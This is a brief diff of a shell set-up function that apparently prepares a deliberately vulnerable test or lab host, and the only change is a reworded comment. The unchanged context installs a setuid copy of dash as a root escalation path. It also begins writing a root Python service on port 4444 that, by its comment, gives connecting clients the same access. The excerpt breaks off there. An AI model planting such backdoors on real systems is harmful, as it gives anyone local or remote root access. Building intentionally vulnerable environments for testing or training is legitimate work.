@@ -38,7 +38,7 @@ set_up() {
 	# a way from there to root
 	install -m 4755 /usr/bin/dash /usr/local/bin/hole
 
-	# a service of root's that does so for who connects
+	# a service of root's that does so for its clients
 	cat >/usr/local/lib/hole.py <<-'PYTHON'
 		import socket, subprocess
 		server = socket.create_server(("", 4444))
